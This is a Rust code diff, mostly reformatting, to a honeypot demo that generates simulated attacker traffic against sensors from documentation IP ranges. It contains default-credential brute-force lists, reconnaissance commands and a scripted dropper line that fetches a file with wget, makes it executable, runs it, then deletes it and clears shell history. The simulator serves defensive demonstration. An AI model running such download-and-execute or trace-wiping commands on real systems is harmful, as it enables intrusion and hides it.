@@ -12,9 +12,21 @@ use rand_chacha::ChaCha12Rng;
 /// The account every demo sensor lets in, beside its persona's own.
 pub(crate) const ACCOUNT: (&str, &str) = ("root", "123456");
 
-const USERS: &[&str] = &["root", "admin", "ubuntu", "test", "oracle", "postgres", "git", "user", "guest", "pi", "ftpuser", "support"];
+const USERS: &[&str] =
+    &["root", "admin", "ubuntu", "test", "oracle", "postgres", "git", "user", "guest", "pi", "ftpuser", "support"];
 const PASSWORDS: &[&str] = &[
-    "admin", "password", "12345678", "root", "qwerty", "1q2w3e4r", "letmein", "toor", "P@ssw0rd", "raspberry", "changeme", "abc123",
+    "admin",
+    "password",
+    "12345678",
+    "root",
+    "qwerty",
+    "1q2w3e4r",
+    "letmein",
+    "toor",
+    "P@ssw0rd",
+    "raspberry",
+    "changeme",
+    "abc123",
 ];
 
 /// One thing an attacker does.
@@ -72,7 +84,12 @@ fn opening(dice: &mut ChaCha12Rng, sensors: usize) -> Vec<Attack> {
             format!("cd /tmp; wget {drop} -O .x; chmod 777 .x; ./.x"),
             "rm -rf .x; history -c".to_owned(),
         ];
-        attacks.push(Attack { at_ms: 500 + 1_500 * sensor as u64, source: loader, sensor, deed: Deed::Commands(lines) });
+        attacks.push(Attack {
+            at_ms: 500 + 1_500 * sensor as u64,
+            source: loader,
+            sensor,
+            deed: Deed::Commands(lines),
+        });
     }
     let herd: Vec<IpAddr> = (0..5).map(|i| host([198, 51, 100], 20 + i)).collect();
     let list = pairs(dice, 6);
@@ -83,7 +100,8 @@ fn opening(dice: &mut ChaCha12Rng, sensors: usize) -> Vec<Attack> {
     let one = |at_ms, source, sensor: usize, deed| Attack { at_ms, source, sensor: sensor % sensors, deed };
     attacks.push(one(2_000, host([192, 0, 2], 10), 0, Deed::Scan));
     attacks.push(one(2_500, host([192, 0, 2], 11), 1, Deed::BannerGrab));
-    let patient: Vec<(String, String)> = PASSWORDS.iter().map(|password| ("operator".to_owned(), (*password).to_owned())).collect();
+    let patient: Vec<(String, String)> =
+        PASSWORDS.iter().map(|password| ("operator".to_owned(), (*password).to_owned())).collect();
     attacks.push(one(3_000, host([198, 51, 100], 77), 2, Deed::Guess(patient)));
     let relays = vec![("mail.example".to_owned(), 25), ("smtp.example".to_owned(), 465)];
     attacks.push(one(4_000, host([203, 0, 113], 9), 3, Deed::Proxy(relays)));
@@ -96,7 +114,10 @@ fn opening(dice: &mut ChaCha12Rng, sensors: usize) -> Vec<Attack> {
 }
 
 fn background(dice: &mut ChaCha12Rng, at_ms: u64, sensors: usize) -> Attack {
-    let source = host(*[[192, 0, 2], [198, 51, 100], [203, 0, 113]].choose(dice).unwrap_or(&[192, 0, 2]), dice.random_range(1..255));
+    let source = host(
+        *[[192, 0, 2], [198, 51, 100], [203, 0, 113]].choose(dice).unwrap_or(&[192, 0, 2]),
+        dice.random_range(1..255),
+    );
     let sensor = dice.random_range(0..sensors.max(1));
     // Roughly what public honeypot logs show: credentials first, looks second, deeds seldom.
     let deed = match dice.random_range(0..100) {
@@ -104,7 +125,11 @@ fn background(dice: &mut ChaCha12Rng, at_ms: u64, sensors: usize) -> Attack {
         55..75 => Deed::BannerGrab,
         75..85 => Deed::Scan,
         85..92 => Deed::Proxy(vec![(format!("{}.example", word(dice)), *[25, 80, 443].choose(dice).unwrap_or(&25))]),
-        92..96 => Deed::Commands(vec!["uname -a".to_owned(), "nproc".to_owned(), "cat /proc/meminfo | grep MemTotal".to_owned()]),
+        92..96 => Deed::Commands(vec![
+            "uname -a".to_owned(),
+            "nproc".to_owned(),
+            "cat /proc/meminfo | grep MemTotal".to_owned(),
+        ]),
         _ => Deed::Telnet(mirai(dice)),
     };
     Attack { at_ms, source, sensor, deed }
@@ -122,8 +147,10 @@ fn mirai(dice: &mut ChaCha12Rng) -> Vec<String> {
 }
 
 fn pairs(dice: &mut ChaCha12Rng, count: usize) -> Vec<(String, String)> {
-    let mut all: Vec<(String, String)> =
-        USERS.iter().flat_map(|user| PASSWORDS.iter().map(|password| ((*user).to_owned(), (*password).to_owned()))).collect();
+    let mut all: Vec<(String, String)> = USERS
+        .iter()
+        .flat_map(|user| PASSWORDS.iter().map(|password| ((*user).to_owned(), (*password).to_owned())))
+        .collect();
     all.shuffle(dice);
     all.truncate(count);
     all
